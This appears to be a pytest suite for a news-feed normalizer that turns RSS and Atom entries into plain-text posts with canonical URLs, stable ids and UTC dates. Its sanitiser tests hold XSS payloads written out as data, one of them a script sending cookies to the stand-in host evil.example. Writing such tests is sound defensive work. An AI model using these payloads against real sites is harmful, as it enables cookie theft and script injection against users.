"""digest.fetch.normalize: plain text, canonical URLs, stable ids and UTC dates.

Inputs are real feedparser results of small inline feeds (parsed the way
`digest.fetch.gather` parses them), not hand-built dictionaries.
"""

from __future__ import annotations

import io
import logging
from datetime import UTC, datetime, timedelta

import feedparser
import pytest

from digest.config import FeedSettings
from digest.fetch.normalize import (
    MAX_SUMMARY_CHARS,
    TRACKING_PARAMS,
    canonical_url,
    html_to_text,
    normalize_entries,
)

NOW = datetime(2026, 3, 2, 9, 30, tzinfo=UTC)
FEED = FeedSettings(url="https://news.example.jp/feeds/rss.xml")


def parse(xml: str | bytes, location: str | None = FEED.url) -> feedparser.FeedParserDict:
    body = xml.encode() if isinstance(xml, str) else xml
    headers = {"content-type": "application/rss+xml"}
    if location:
        headers["content-location"] = location
    return feedparser.parse(
        io.BytesIO(body), response_headers=headers, sanitize_html=False, resolve_relative_uris=False
    )


def rss(items: str, channel: str = "") -> str:
    return (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>'
        f"<title>Feed</title><link>https://news.example.jp/</link>{channel}{items}"
        "</channel></rss>"
    )


# -- html_to_text ------------------------------------------------------------


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>first</p><p>second</p>", "first second"),
        ("line<br>break<br/>again", "line break again"),
        ("<ul><li>one</li><li>two</li></ul>", "one two"),
        ("<h2>Head</h2><div>body</div>", "Head body"),
        ("<table><tr><td>a</td><td>b</td></tr></table>", "a b"),
        ("AT&amp;T &lt;3 &quot;q&quot; &#x6771;&#20140;", 'AT&T <3 "q" 東京'),
        ("a&nbsp;b\u3000c\u00a0d\t\n e", "a b c d e"),
        ("東京\u3000\u3000大阪", "東京 大阪"),
        ("  spaced   out  ", "spaced out"),
        ("zero\u200bwidth\ufeff", "zerowidth"),
        ("bell\x07char", "bellchar"),
        ("x < y and y > z", "x < y and y > z"),
        ("", ""),
    ],
)
def test_html_to_text(html: str, text: str) -> None:
    assert html_to_text(html) == text


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert('pwned')</script>safe",
        "<SCRIPT type='text/javascript'>alert('pwned')</SCRIPT>safe",
        "<style>body{display:none} .pwned{}</style>safe",
        "<img src=x onerror=\"alert('pwned')\">safe",
        "<!-- pwned -->safe",
        "<![CDATA[pwned]]>safe",
        "<b>safe<i> unclosed",
        "safe<script>alert('pwned')",  # never closed: the rest is script
        '<a href="javascript:alert(1)">safe</a>',
        "<noscript>pwned</noscript><template>pwned</template>safe",
        "<div><p>safe</div></p></span>",
        'safe <a href="http://truncated.example/pwned',  # cut off mid-tag
        "<svg onload=alert('pwned')>safe</svg>",
        "<iframe src=javascript:alert('pwned')></iframe>safe",
    ],
)
def test_html_to_text_hostile(hostile: str) -> None:
    text = html_to_text(hostile)
    assert "safe" in text
    assert "pwned" not in text
    assert "<" not in text and ">" not in text


@pytest.mark.parametrize(
    ("html", "text"),
    [
        # A reading over a word is not part of the text, with or without the
        # fallback parentheses and end tags a feed may leave out.
        ("<ruby>東京<rt>とうきょう</rt></ruby>で<ruby>人工知能<rp>(</rp><rt>じんこうちのう</rt><rp>)</rp></ruby>",
         "東京で人工知能"),
        ("<ruby>漢<rt>かん</ruby>字を<ruby>学<rt>まな</rt>ぶ</ruby>", "漢字を学ぶ"),
        ("<ruby><rb>北京</rb><rp>(</rp><rt>Běijīng</rt><rp>)</rp></ruby>大学", "北京大学"),
        ("<p>AI<rt>stray</rt></p><p>chips</p>", "AI chips"),  # no ruby: still a note
    ],
)  # fmt: skip
def test_html_to_text_leaves_ruby_readings_out(html: str, text: str) -> None:
    assert html_to_text(html) == text


def test_html_to_text_never_raises_on_garbage() -> None:
    pieces = ["<", ">", "</", "<!", "<![", "]]>", "-->", "&", "#", ";", "script", "a", "=", '"']
    for i in range(len(pieces)):
        for j in range(len(pieces)):
            junk = "".join(pieces[i:] + pieces[:j]) * 3
            assert isinstance(html_to_text(junk), str)


# -- canonical_url -----------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "canonical"),
    [
        ("HTTP://News.Example.COM/a/b?x=1", "http://news.example.com/a/b?x=1"),
        ("https://example.com:443/p", "https://example.com/p"),
        ("http://example.com:80/p", "http://example.com/p"),
        ("http://example.com:8080/p", "http://example.com:8080/p"),
        ("https://example.com", "https://example.com/"),
        ("https://example.com/p#comments", "https://example.com/p"),
        (
            "https://example.com/p?id=7&utm_source=rss&utm_medium=feed&UTM_Campaign=x&page=2",
            "https://example.com/p?id=7&page=2",
        ),
        (
            "https://example.com/p?fbclid=a&gclid=b&mc_cid=c&mc_eid=d&igshid=e&yclid=f&q=1",
            "https://example.com/p?q=1",
        ),
        ("https://example.com/p?_hsenc=a&_hsmi=b&ref_src=c&spm=a2c.1", "https://example.com/p"),
        ("https://example.com/p?b=2&a=1&b=3", "https://example.com/p?b=2&a=1&b=3"),  # order kept
        (
            "https://example.com/p?q=%E6%9D%B1%E4%BA%AC",
            "https://example.com/p?q=%E6%9D%B1%E4%BA%AC",
        ),
        ("https://example.com/p?flag&utm_term=z", "https://example.com/p?flag"),
        ("  https://example.com/p\n  ", "https://example.com/p"),
        ("https://[2001:DB8::1]:443/x", "https://[2001:db8::1]/x"),
        ("javascript:alert(1)", ""),
        ("JavaScript:alert(1)", ""),
        ("data:text/html,<script>alert(1)</script>", ""),
        ("mailto:editor@example.com", ""),
        ("ftp://example.com/file", ""),
        ("/relative/path", ""),
        ("https:///no-host", ""),
        ("http://example.com:99999/", ""),
        ("", ""),
    ],
)
def test_canonical_url(url: str, canonical: str) -> None:
    assert canonical_url(url) == canonical


def test_tracking_params_is_a_documented_frozenset() -> None:
    assert isinstance(TRACKING_PARAMS, frozenset)
    assert {"fbclid", "gclid", "mc_cid", "mc_eid", "igshid", "yclid", "spm"} <= TRACKING_PARAMS


# -- normalize_entries ---------------------------------------------------------


def test_rss_entry_becomes_a_post() -> None:
    parsed = parse(
        rss(
            "<item><title>東京のAI企業が資金調達</title>"
            "<link>https://news.example.jp/a/1?utm_source=rss#top</link>"
            '<guid isPermaLink="false">news-1</guid>'
            "<description>&lt;p&gt;大型の&lt;b&gt;調達&lt;/b&gt;。&lt;/p&gt;</description>"
            "<pubDate>Mon, 02 Mar 2026 08:00:00 +0900</pubDate></item>",
            channel="<language>ja-JP</language>",
        )
    )
    [post] = normalize_entries(parsed, FEED, NOW)
    assert post.feed_url == FEED.url
    assert post.post_id == "news-1"
    assert post.url == "https://news.example.jp/a/1"
    assert post.title == "東京のAI企業が資金調達"
    assert post.summary == "大型の調達。"
    assert post.published == datetime(2026, 3, 1, 23, 0, tzinfo=UTC)
    assert post.published.tzinfo is UTC
    assert post.first_seen == NOW
    assert post.language == "ja-jp"
    assert post.date_from_feed is True


def test_atom_entry_with_entry_language_and_content_fallback() -> None:
    parsed = parse(
        '<?xml version="1.0" encoding="utf-8"?>'
        '<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="en">'
        "<title>Hub</title><id>urn:hub</id><updated>2026-03-01T00:00:00Z</updated>"
        '<entry xml:lang="ZH-CN"><title>深圳机器人</title><id>urn:post:1</id>'
        '<link href="https://hub.example.cn/p/1"/><updated>2026-03-01T10:00:00+08:00</updated>'
        '<content type="html">&lt;p&gt;融资&lt;script&gt;evil()&lt;/script&gt;'
        "完成&lt;/p&gt;</content>"
        "</entry></feed>"
    )
    [post] = normalize_entries(parsed, FEED, NOW)
    assert post.post_id == "urn:post:1"
    assert post.language == "zh-cn"
    assert post.summary == "融资完成"
    assert post.published == datetime(2026, 3, 1, 2, 0, tzinfo=UTC)


def test_feed_language_is_used_when_the_entry_has_none() -> None:
    parsed = parse(rss("<item><title>뉴스</title></item>", channel="<language>KO</language>"))
    assert normalize_entries(parsed, FEED, NOW)[0].language == "ko"


def test_no_language_declared_gives_empty_string() -> None:
    parsed = parse(rss("<item><title>News</title></item>"))
    assert normalize_entries(parsed, FEED, NOW)[0].language == ""


def test_title_with_cr_lf_and_markup_becomes_one_line() -> None:
    parsed = parse(
        rss(
            "<item><title>First line\r\n  second\rline\nthird</title></item>"
            "<item><title>&lt;em&gt;Big&lt;/em&gt;\n news &amp;amp; more</title></item>"
        )
    )
    first, second = normalize_entries(parsed, FEED, NOW)
    assert first.title == "First line second line third"
    assert second.title == "Big news & more"  # an HTML title: markup dropped, entity decoded
    for post in (first, second):
        assert "\r" not in post.title and "\n" not in post.title


def test_summary_is_single_spaced_plain_text_and_capped() -> None:
    long = "word " * 1000
    parsed = parse(rss(f"<item><title>t</title><description>{long}\n\n{long}</description></item>"))
    [post] = normalize_entries(parsed, FEED, NOW)
    assert len(post.summary) <= MAX_SUMMARY_CHARS
    assert post.summary.endswith("…")
    assert "  " not in post.summary and "\n" not in post.summary


def test_cjk_summary_without_spaces_is_capped_too() -> None:
    parsed = parse(rss(f"<item><title>t</title><description>{'あ' * 5000}</description></item>"))
    [post] = normalize_entries(parsed, FEED, NOW)
    assert len(post.summary) == MAX_SUMMARY_CHARS
    assert post.summary.endswith("…")


def test_hostile_html_in_summary_never_leaks_script() -> None:
    hostile = (
        "&lt;script&gt;document.location='https://evil.example/'+document.cookie&lt;/script&gt;"
        "&lt;img src=x onerror=alert(1)&gt;&lt;style&gt;*{color:red}&lt;/style&gt;"
        "&lt;!-- hidden --&gt;Real &lt;b&gt;text&lt;/b&gt;&lt;p&gt;unclosed"
    )
    parsed = parse(rss(f"<item><title>t</title><description>{hostile}</description></item>"))
    [post] = normalize_entries(parsed, FEED, NOW)
    assert post.summary == "Real text unclosed"


def test_relative_links_resolve_against_the_feed_document() -> None:
    items = "<item><title>a</title><link>posts/1.html?utm_source=x</link></item>"
    items += "<item><title>b</title><link>/abs/2</link></item>"
    # Parsed with Content-Location, as gather does (feedparser resolves) ...
    a, b = normalize_entries(parse(rss(items)), FEED, NOW)
    assert a.url == "https://news.example.jp/feeds/posts/1.html"
    assert b.url == "https://news.example.jp/abs/2"
    # ... and without it: normalize falls back to the configured feed URL.
    a2, b2 = normalize_entries(parse(rss(items), location=None), FEED, NOW)
    assert (a2.url, b2.url) == (a.url, b.url)


def test_post_id_falls_back_to_canonical_link_then_content_hash() -> None:
    parsed = parse(
        rss(
            '<item><title>with guid</title><guid isPermaLink="false">g-1</guid>'
            "<link>https://x.example/1</link></item>"
            "<item><title>no guid</title><link>https://x.example/2?fbclid=zz#c</link></item>"
            "<item><title>bare</title><description>only text</description></item>"
        )
    )
    guid, link, bare = normalize_entries(parsed, FEED, NOW)
    assert guid.post_id == "g-1"
    assert link.post_id == "https://x.example/2"
    assert bare.post_id.startswith("sha256:") and len(bare.post_id) == len("sha256:") + 64
    assert bare.url == ""
    # Stable: the same entry normalised again (another run) gets the same id.
    again = normalize_entries(parsed, FEED, NOW + timedelta(days=7))
    assert [p.post_id for p in again] == [guid.post_id, link.post_id, bare.post_id]


def test_entries_without_title_or_link_are_skipped_and_logged(
    caplog: pytest.LogCaptureFixture,
) -> None:
    parsed = parse(
        rss(
            "<item><description>no title, no link</description></item>"
            "<item><title>   </title><link>javascript:alert(1)</link></item>"
            "<item><link>https://x.example/only-link</link><description>Body text</description>"
            "</item>"
        )
    )
    with caplog.at_level(logging.WARNING, logger="digest.fetch.normalize"):
        posts = normalize_entries(parsed, FEED, NOW)
    assert [p.url for p in posts] == ["https://x.example/only-link"]
    assert posts[0].title == "Body text"  # an untitled post still gets something to click
    skipped = [r for r in caplog.records if "neither a title nor a link" in r.getMessage()]
    assert len(skipped) == 2
    assert all(FEED.url in r.getMessage() for r in skipped)


def test_missing_dates_fall_back_to_now() -> None:
    parsed = parse(rss("<item><title>undated</title></item>"))
    [post] = normalize_entries(parsed, FEED, NOW)
    assert post.published == NOW
    assert post.date_from_feed is False


def test_updated_is_used_when_published_is_missing() -> None:
    parsed = parse(
        '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>t</title>'
        "<entry><title>e</title><id>urn:e</id><updated>2026-02-28T12:00:00Z</updated></entry>"
        "</feed>"
    )
    [post] = normalize_entries(parsed, FEED, NOW)
    assert post.published == datetime(2026, 2, 28, 12, 0, tzinfo=UTC)
    assert post.date_from_feed is True


def test_future_dates_are_clamped_to_now_and_logged(caplog: pytest.LogCaptureFixture) -> None:
    parsed = parse(
        rss(
            "<item><title>far future</title><guid>f1</guid>"
            "<pubDate>Fri, 01 Jan 2100 00:00:00 +0000</pubDate></item>"
            "<item><title>a few hours ahead</title><guid>f2</guid>"
            "<pubDate>Mon, 02 Mar 2026 20:00:00 +0000</pubDate></item>"
        )
    )
    with caplog.at_level(logging.WARNING, logger="digest.fetch.normalize"):
        far, near = normalize_entries(parsed, FEED, NOW)
    assert far.published == NOW and far.date_from_feed is False
    # Within a day ahead: time zones and clock skew, kept as given.
    assert near.published == datetime(2026, 3, 2, 20, 0, tzinfo=UTC)
    assert near.date_from_feed is True
    [record] = [r for r in caplog.records if "future" in r.getMessage()]
    assert FEED.url in record.getMessage() and "far future" in record.getMessage()


def test_now_must_be_aware() -> None:
    with pytest.raises(ValueError, match="aware"):
        normalize_entries(parse(rss("")), FEED, datetime(2026, 3, 2))


def test_no_entries_gives_no_posts() -> None:
    assert normalize_entries(parse(rss("")), FEED, NOW) == []


# -- dates: the raw strings win over feedparser's dropped zones ------------------------


def dated(date_element: str, channel: str = "") -> feedparser.FeedParserDict:
    return parse(
        rss(f"<item><title>t</title><guid>g</guid>{date_element}</item>", channel).replace(
            "<rss ", '<rss xmlns:dc="http://purl.org/dc/elements/1.1/" ', 1
        )
    )


@pytest.mark.parametrize(
    ("element", "channel", "feed", "expected"),
    [
        # Asian zone names feedparser drops (it would say 14:30 UTC).
        ("<pubDate>Tue, 05 Mar 2024 14:30:00 KST</pubDate>", "", FEED, (2024, 3, 5, 5, 30)),
        ("<pubDate>Tue, 05 Mar 2024 14:30:00 HKT</pubDate>", "", FEED, (2024, 3, 5, 6, 30)),
        ("<pubDate>Tue, 05 Mar 2024 14:30:00 IST</pubDate>", "", FEED, (2024, 3, 5, 9, 0)),
        # CST in a Chinese feed is China Standard Time, not US Central.
        (
            "<pubDate>Tue, 05 Mar 2024 14:30:00 CST</pubDate>",
            "<language>zh-cn</language>",
            FEED,
            (2024, 3, 5, 6, 30),
        ),
        # Zone-less dates in the feed's zone: declared language, then configured hints.
        (
            "<dc:date>2024年3月5日 14:30</dc:date>",
            "<language>ja</language>",
            FEED,
            (2024, 3, 5, 5, 30),
        ),
        (
            "<pubDate>2024-03-05 14:30:00</pubDate>",
            "",
            FeedSettings(url=FEED.url, country="KR"),
            (2024, 3, 5, 5, 30),
        ),
        (
            "<pubDate>2016/6/29 15:07</pubDate>",
            "",
            FeedSettings(url=FEED.url, language="zh-TW"),
            (2016, 6, 29, 7, 7),
        ),
        ("<pubDate>2016.06.29</pubDate>", "<language>ko</language>", FEED, (2016, 6, 28, 15, 0)),
        (
            "<pubDate>2024-03-05 14:30:00</pubDate>",
            "<language>en</language>",
            FEED,
            (2024, 3, 5, 14, 30),
        ),
    ],
)
def test_dates_are_read_from_the_raw_strings(
    element: str, channel: str, feed: FeedSettings, expected: tuple[int, int, int, int, int]
) -> None:
    [post] = normalize_entries(dated(element, channel), feed, NOW)
    year, month, day, hour, minute = expected
    assert post.published == datetime(year, month, day, hour, minute, tzinfo=UTC)
    assert post.date_from_feed is True


def test_feedparser_misreading_a_cjk_date_is_not_believed(
    caplog: pytest.LogCaptureFixture,
) -> None:
    # Without a zone hint the date is still read (in UTC), never as this month.
    parsed = dated("<pubDate>2024年3月5日</pubDate>")
    assert parsed.entries[0].published_parsed[:3] != (2024, 3, 5)  # feedparser's guess
    [post] = normalize_entries(parsed, FEED, NOW)
    assert post.published == datetime(2024, 3, 5, tzinfo=UTC)


def test_unreadable_dates_fall_back_to_first_seen_with_a_log_line(
    caplog: pytest.LogCaptureFixture,
) -> None:
    parsed = dated("<pubDate>Tue, 05 Mar 2024 14:30:00 XYZ</pubDate>")
    with caplog.at_level(logging.INFO, logger="digest.fetch.normalize"):
        [post] = normalize_entries(parsed, FEED, NOW)
    assert post.published == NOW and post.date_from_feed is False
    [record] = [r for r in caplog.records if "cannot read the date" in r.getMessage()]
    assert FEED.url in record.getMessage() and "XYZ" in record.getMessage()


def test_a_later_readable_date_is_used_when_the_first_is_not() -> None:
    parsed = dated(
        "<pubDate>sometime last week</pubDate><dc:date>2026-02-27T09:00:00+09:00</dc:date>"
    )
    [post] = normalize_entries(parsed, FEED, NOW)
    assert post.published == datetime(2026, 2, 27, 0, 0, tzinfo=UTC)


def test_feedparsers_plausible_reading_of_other_formats_is_kept() -> None:
    # A perforce-style date: not one of ours, but feedparser reads it correctly.
    parsed = dated("<pubDate>Fri, 2006/09/15 08:19:53 EDT</pubDate>")
    [post] = normalize_entries(parsed, FEED, NOW)
    assert post.published == datetime(2006, 9, 15, 12, 19, 53, tzinfo=UTC)
    assert post.date_from_feed is True


def test_future_dates_read_from_raw_strings_are_still_clamped() -> None:
    parsed = dated("<pubDate>2100年1月1日</pubDate>", "<language>ja</language>")
    [post] = normalize_entries(parsed, FEED, NOW)
    assert post.published == NOW and post.date_from_feed is False
